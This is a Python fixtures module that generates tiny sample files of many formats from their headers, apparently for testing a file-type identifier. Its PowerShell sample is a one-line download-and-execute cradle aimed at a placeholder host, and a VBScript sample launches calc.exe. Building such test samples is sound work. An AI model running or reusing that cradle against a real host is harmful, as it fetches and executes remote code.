"""Tiny generated samples of each file family we map, built from their published headers."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import struct
import tarfile
import zipfile


def pe(machine: int = 0x14C, opt_magic: int = 0x10B, dll: bool = False) -> bytes:
    dos = b"MZ" + b"\0" * 58 + struct.pack("<I", 0x80) + b"\0" * (0x80 - 64)
    opt_size = 0xE0 if opt_magic == 0x10B else 0xF0
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", machine, 1, 0, 0, 0, opt_size, 0x0102 | (0x2000 if dll else 0))
    opt = bytearray(struct.pack("<H", opt_magic) + b"\0" * (opt_size - 2))
    struct.pack_into("<H", opt, 68, 2)  # subsystem: Windows GUI
    return dos + coff + bytes(opt) + os.urandom(2048)


def elf(bits: int = 64, kind: int = 2) -> bytes:
    head = b"\x7fELF" + bytes([2 if bits == 64 else 1, 1, 1, 0]) + b"\0" * 8
    return head + struct.pack("<HHI", kind, 0x3E if bits == 64 else 3, 1) + b"\0" * 200


def zip_of(files: dict[str, bytes]) -> bytes:
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return bio.getvalue()


def tar_of(files: dict[str, bytes], mode: str = "w") -> bytes:
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode=mode) as t:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return bio.getvalue()


SAMPLES: dict[str, tuple[bytes, str, str | None]] = {
    "pe32": (pe(), "executable/windows/pe32", "exe"),
    "pe64": (pe(0x8664, 0x20B), "executable/windows/pe64", "exe"),
    "dll32": (pe(dll=True), "executable/windows/dll32", "dll"),
    "dll64": (pe(0x8664, 0x20B, True), "executable/windows/dll64", "dll"),
    "elf64": (elf(), "executable/linux/elf64", "elf"),
    "elf32": (elf(32), "executable/linux/elf32", "elf"),
    "so64": (elf(64, 3), "executable/linux/so64", "so"),
    "macho": (struct.pack("<I", 0xFEEDFACF) + struct.pack("<iiIIII", 0x01000007, 3, 2, 0, 0, 0) + b"\0" * 100,
              "executable/mach-o", "macho"),
    "ole": (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHH", 0x3E, 3, 0xFFFE) + b"\0" * 600,
            "document/office/unknown", "ole"),
    "docx": (zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}), "document/office/word",
             "docx"),
    "xlsx": (zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"}), "document/office/excel",
             "xlsx"),
    "pptx": (zip_of({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"}),
             "document/office/powerpoint", "pptx"),
    "pdf": (b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n", "document/pdf", "pdf"),
    "zip": (zip_of({"a.txt": b"hello"}), "archive/zip", "zip"),
    "rar": (b"Rar!\x1a\x07\x01\x00" + b"\0" * 50, "archive/rar", "rar"),
    "7z": (b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 50, "archive/7-zip", "7z"),
    "tar": (tar_of({"a.txt": b"hello"}), "archive/tar", "tar"),
    "gz": (gzip.compress(b"hello"), "archive/gzip", "gz"),
    "bz2": (bz2.compress(b"hello"), "archive/bzip2", "bz2"),
    "xz": (lzma.compress(b"hello"), "archive/xz", "xz"),
    "js": (b"function foo(a) {\n  var x = document.getElementById('a');\n  return x;\n}\n", "code/javascript", "js"),
    "vbs": (b'Dim objShell\nSet objShell = CreateObject("WScript.Shell")\nobjShell.Run "calc.exe"\n',
            "code/vbs", "vbs"),
    "ps1": (b"$client = New-Object System.Net.WebClient\nInvoke-Expression $client.DownloadString('http://x')\n",
            "code/powershell", "ps1"),
    "bat": (b"@echo off\r\nset X=1\r\ngoto :eof\r\n", "code/batch", "bat"),
    "py": (b"import os\nimport sys\n\ndef main():\n    print(sys.argv)\n", "code/python", "py"),
    "html": (b"<!DOCTYPE html>\n<html><head><title>x</title></head><body>hi</body></html>\n", "code/html", "html"),
    "txt": (b"hello world, this is plain text\n", "text/plain", "txt"),
    "png": (bytes.fromhex("89504e470d0a1a0a0000000d49484452") + struct.pack(">II", 1, 1) + b"\x08\x02\0\0\0"
            + b"\0" * 20, "image/png", "png"),
    "jpg": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\0" * 50, "image/jpg", "jpg"),
    "gif": (b"GIF89a\x01\x00\x01\x00\x00\x00\x00" + b"\0" * 20, "image/gif", "gif"),
    "bmp": (b"BM" + struct.pack("<IHHI", 100, 0, 0, 54) + struct.pack("<IiiHH", 40, 1, 1, 1, 24) + b"\0" * 60,
            "image/bmp", "bmp"),
    "random": (bytes(range(256)) * 2 + b"\x00\xff" * 3, "unknown", None),
}
